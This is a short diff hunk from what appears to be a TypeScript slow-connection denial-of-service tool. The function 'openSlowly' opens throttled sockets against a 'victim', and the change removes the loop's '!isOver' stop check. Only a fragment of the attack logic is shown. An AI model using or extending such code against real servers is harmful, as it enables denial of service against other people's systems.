@@ -119,7 +119,7 @@ function openSlowly(victim: Victim, { sockets, perSecond }: SlowAttack, seen: Ta
     return once(socket, 'connect')
   }
   const openAll = async (): Promise<void> => {
-    for (let at = 0; at < sockets && !isOver; at += 1) {
+    for (let at = 0; at < sockets; at += 1) {
       void openOne(WAYS[at % WAYS.length] ?? 'head').catch(() => {})
       if (at % OPENED_AT_ONCE === 0) await sleep((1_000 * OPENED_AT_ONCE) / perSecond)
     }
